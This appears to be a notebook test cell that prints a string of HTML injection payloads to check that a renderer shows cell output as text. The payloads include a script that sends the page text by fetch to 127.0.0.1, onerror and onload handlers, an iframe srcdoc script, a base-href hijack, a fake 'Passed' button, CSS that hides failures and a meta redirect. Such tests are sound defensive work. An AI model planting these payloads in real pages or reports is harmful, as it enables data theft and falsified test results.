# Prints HTML
# tries: a script in an output runs when the page is opened
# holds: an output is text
# shows: <script>document.title

# %%
hostile = """</pre></div><script>document.title = 'owned'; fetch('http://127.0.0.1/' + document.body.innerText)</script>
<img src=x onerror="document.title = 'owned'"><svg onload="document.title = 'owned'"></svg>
<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe><base href="http://127.0.0.1/">
<form action="http://127.0.0.1/"><input name=q><button>Passed</button></form><style>.failed{display:none}</style>
<a href="javascript:document.title = 'owned'">my grade</a><meta http-equiv="refresh" content="0;url=http://127.0.0.1/">"""
print(hostile)
print(hostile, file=sys.stderr)
hostile
